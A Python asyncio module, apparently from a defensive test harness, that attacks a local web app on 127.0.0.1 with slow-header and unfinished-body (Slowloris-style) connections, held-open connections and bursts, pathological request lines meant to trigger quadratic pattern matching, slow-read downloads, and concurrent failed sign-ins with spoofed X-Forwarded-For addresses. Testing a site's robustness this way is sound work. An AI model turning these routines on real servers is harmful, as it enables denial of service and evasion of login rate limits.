"""The attackers: each crowd holds so many connections open, and comes back when one is cut.

Only loopback is ever attacked: the port is all that can be chosen.
"""

import asyncio
import itertools
import socket
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass
from functools import partial
from urllib.parse import urlencode

HOST = "127.0.0.1"
ATTACKED = "inbox.example.com"  # as what the site believes to be asked
PAUSE = 0.5  # seconds until somebody who was cut comes back
SIGN_INS = 25
BURST = 100


@dataclass(frozen=True)
class Target:
    """The site: where it listens, what its sign-in form posts, and sessions of some members."""

    port: int
    cookies: str
    token: str
    members: tuple[str, ...]


Crowd = Callable[[Target], Awaitable[None]]


def head(method: str, path: str, *lines: str) -> bytes:
    told = [f"{method} {path} HTTP/1.1", f"Host: {ATTACKED}", "X-Forwarded-Proto: https", *lines]
    return "\r\n".join([*told, "", ""]).encode()


async def send_unfinished_bodies(target: Target, number: int = 200) -> None:
    """POSTs with a made-up session that promise 500 bytes, send six, and fall silent."""
    lines = (
        "Cookie: __Host-session=abcdefghijklmnopqrstuvwxyz012345",
        "Content-Type: application/x-www-form-urlencoded",
        "Content-Length: 500",
    )
    request = head("POST", "/accounts/login/", *lines) + b"login="
    await _crowd(number, partial(_fall_silent, target.port, request))


async def send_half_headers(target: Target, number: int = 270) -> None:
    """Requests whose headers never end: one more letter each second."""
    request = head("GET", "/accounts/login/")[:-2] + b"X-Slow: "
    await _crowd(number, partial(_drip, target.port, request))


async def send_bodies_and_headers(target: Target) -> None:
    await asyncio.gather(send_unfinished_bodies(target), send_half_headers(target, 100))


async def send_hostile_heads(target: Target) -> None:
    """Request lines and headers for which a careless pattern takes the square of their length."""
    heads = itertools.cycle([b"GET a://" + b"1" * 30_000 + b" X", TABS])
    await _crowd(10, lambda: _ask(target.port, next(heads) + b"\r\n\r\n"), pause=0.2)


async def keep_closed_connections(target: Target) -> None:
    """80 who ask to close and keep the connection open, and bursts of 100 beside them."""
    request = head("GET", "/healthz", "Connection: close")
    stay = _crowd(80, partial(_fall_silent, target.port, request))
    await asyncio.gather(stay, _burst(target.port, request))


async def sign_in_at_once(target: Target) -> None:
    """25 tries at once, each for an account and from an address of its own, over and over."""
    numbers = itertools.count()
    await _crowd(SIGN_INS, partial(_sign_in, target, numbers), pause=0)


async def download_slowly(target: Target) -> None:
    """Six members, each with three downloads of the whole trail, read at two kilobytes a second."""

    async def download(turn: "itertools.count[int]") -> None:
        cookie = target.members[next(turn) % len(target.members)]
        await _read_slowly(target.port, head("GET", CSV, f"Cookie: {cookie}"))

    await _crowd(18, partial(download, itertools.count()))


TABS = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: " + b"\t" * 30_000 + b"\x01"
CSV = "/brands/3/activity/activity.csv"


async def _crowd(number: int, one: Callable[[], Awaitable[None]], pause: float = PAUSE) -> None:
    async def come_again() -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError):
                await one()
            await asyncio.sleep(pause)

    await asyncio.gather(*(come_again() for _ in range(number)))


async def _fall_silent(port: int, request: bytes) -> None:
    """Send this, and keep the connection for as long as it lasts without closing one's own side."""
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(request)
        while await reader.read(1024):
            pass
        await asyncio.sleep(30)  # our side stays open, although the other is closed
    finally:
        writer.close()


async def _drip(port: int, request: bytes) -> None:
    _, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(request)
        while True:
            await asyncio.sleep(1)
            writer.write(b"x")
            await writer.drain()
    finally:
        writer.close()


async def _burst(port: int, request: bytes) -> None:
    """A hundred at a time, each gone as soon as it is answered."""
    while True:
        await asyncio.gather(*(_ask(port, request) for _ in range(BURST)), return_exceptions=True)
        await asyncio.sleep(PAUSE)


async def _ask(port: int, request: bytes) -> None:
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(request)
        async with asyncio.timeout(30):
            await reader.read()
    finally:
        writer.close()


async def _sign_in(target: Target, numbers: "itertools.count[int]") -> None:
    number = next(numbers)
    fields = {
        "login": f"guess-{number}@example.com",
        "password": "not-the-right-one",
        "csrfmiddlewaretoken": target.token,
    }
    body = urlencode(fields).encode()
    lines = (
        f"Cookie: {target.cookies}",
        f"Referer: https://{ATTACKED}/accounts/login/",
        f"X-Forwarded-For: 198.51.{number // 250 % 250}.{number % 250}",
        "Content-Type: application/x-www-form-urlencoded",
        f"Content-Length: {len(body)}",
        "Connection: close",
    )
    await _ask(target.port, head("POST", "/accounts/login/", *lines) + body)


async def _read_slowly(port: int, request: bytes) -> None:
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    loop = asyncio.get_running_loop()
    try:
        await loop.sock_connect(sock, (HOST, port))
        await loop.sock_sendall(sock, request)
        while await loop.sock_recv(sock, 1024):
            await asyncio.sleep(0.5)
    finally:
        sock.close()
